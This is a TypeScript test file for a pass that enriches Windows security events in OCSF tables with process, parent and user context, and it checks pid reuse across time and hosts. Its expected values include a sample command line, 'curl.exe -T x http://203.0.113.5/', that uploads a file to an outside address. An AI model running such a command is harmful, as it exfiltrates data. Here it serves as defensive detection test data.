import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { addRecords, openEventTables, rowsOf, security, typed } from '../../test/support/event-tables.ts'
import { SAMPLE_EVENTS } from '../../test/support/sample-events.ts'
import { OCSF_CLASSES } from '../schemas/ocsf/columns.ts'
import { enrich } from './enrichment.ts'
import { filledClasses } from './filled.ts'

describe('the second pass', () => {
  let tables: Awaited<ReturnType<typeof openEventTables>>
  let before: Readonly<Record<string, number>>

  const counts = async (): Promise<Readonly<Record<string, number>>> => {
    const found: Record<string, number> = {}
    for (const name of Object.keys(OCSF_CLASSES)) {
      found[name] = (await rowsOf(tables.engine, name, { time: 'datetime' })).length
    }
    return found
  }

  beforeAll(async () => {
    tables = await openEventTables()
    const file = (second: number, more: Readonly<Record<string, string>>) =>
      security('4663', second, { ObjectType: 'File', ObjectName: `C:\\${second}`, AccessMask: '0x2', ...more })
    await addRecords(tables.engine, [
      ...SAMPLE_EVENTS,
      // One pid, two processes: the first ends at 22, the second begins at 30.
      security('4688', 20, {
        NewProcessId: '0x190',
        NewProcessName: 'C:\\one.exe',
        CommandLine: 'one',
        SubjectUserName: 'A',
      }),
      security('4689', 22, { ProcessId: '0x190', ProcessName: 'C:\\one.exe', Status: '0x0' }),
      security('4688', 30, {
        NewProcessId: '0x190',
        NewProcessName: 'C:\\two.exe',
        CommandLine: 'two',
        SubjectUserName: 'B',
      }),
      file(19, { ProcessId: '0x190' }),
      file(21, { ProcessId: '0x190' }),
      file(27, { ProcessId: '0x190' }),
      file(31, { ProcessId: '0x190' }),
      // The same pid on another host, and another image under the same pid.
      { ...file(32, { ProcessId: '0x190' }), 'System.Computer': 'PC2' },
      file(33, { ProcessId: '0x190', ProcessName: 'C:\\other.exe' }),
      // The start comes twice, as when two files hold the same log.
      ...SAMPLE_EVENTS.slice(1, 2),
    ])
    before = await counts()
    await enrich(tables.engine, await filledClasses(tables.engine))
  })
  afterAll(() => tables.close())

  test('adds no row and loses none', async () => {
    expect(await counts()).toEqual(before)
  })

  test('an event gets its process by the unique id, with its parent and its user', async () => {
    const rows = await rowsOf(
      tables.engine,
      'dns_activity',
      typed(
        'dns_activity',
        ...['actor.process.cmd_line', 'actor.process.integrity', 'actor.user.name', 'actor.user.is_inferred'],
        ...['actor.process.parent_process.file.name', 'actor.process.parent_process.pid'],
      ),
    )
    expect(rows).toEqual([
      {
        'actor.process.cmd_line': 'curl.exe -T x http://203.0.113.5/',
        'actor.process.integrity': 'High',
        'actor.user.name': 'Ann',
        'actor.user.is_inferred': true,
        'actor.process.parent_process.file.name': 'explorer.exe',
        'actor.process.parent_process.pid': 100n,
      },
    ])
  })

  test('what the record says stays', async () => {
    const rows = await rowsOf(
      tables.engine,
      'network_activity',
      typed('network_activity', 'metadata.event_code', 'actor.process.file.path', 'actor.process.cmd_line'),
    )
    const cmd = 'curl.exe -T x http://203.0.113.5/'
    expect(rows).toContainEqual({
      'metadata.event_code': '5156',
      'actor.process.file.path': '\\device\\harddiskvolume2\\tools\\curl.exe',
      'actor.process.cmd_line': cmd,
    })
    expect(rows).toContainEqual({
      'metadata.event_code': '3',
      'actor.process.file.path': 'C:\\Tools\\curl.exe',
      'actor.process.cmd_line': cmd,
    })
  })

  test('a pid means the process that had it at the time', async () => {
    const rows = await rowsOf(
      tables.engine,
      'file_activity',
      typed('file_activity', 'file.path', 'actor.process.cmd_line', 'device.hostname'),
    )
    const lines = rows
      .filter((row) => /^C:\\\d+$/.test(String(row['file.path'])))
      .map((row) => [row['file.path'], row['actor.process.cmd_line']])
    expect(lines).toEqual([
      ['C:\\19', null],
      ['C:\\21', 'one'],
      ['C:\\27', null],
      ['C:\\31', 'two'],
      ['C:\\32', null],
      ['C:\\33', null],
    ])
  })

  test('a process start gets its parent’s parent', async () => {
    const rows = await rowsOf(
      tables.engine,
      'process_activity',
      typed(
        'process_activity',
        ...['metadata.event_code', 'process.file.name', 'actor.process.cmd_line'],
        'actor.process.parent_process.file.name',
      ),
    )
    const curl = {
      'process.file.name': 'curl.exe',
      'actor.process.cmd_line': 'explorer.exe',
      'actor.process.parent_process.file.name': 'userinit.exe',
    }
    expect(rows).toContainEqual({ 'metadata.event_code': '1', ...curl })
    expect(rows).toContainEqual({ 'metadata.event_code': '4688', ...curl })
  })
})
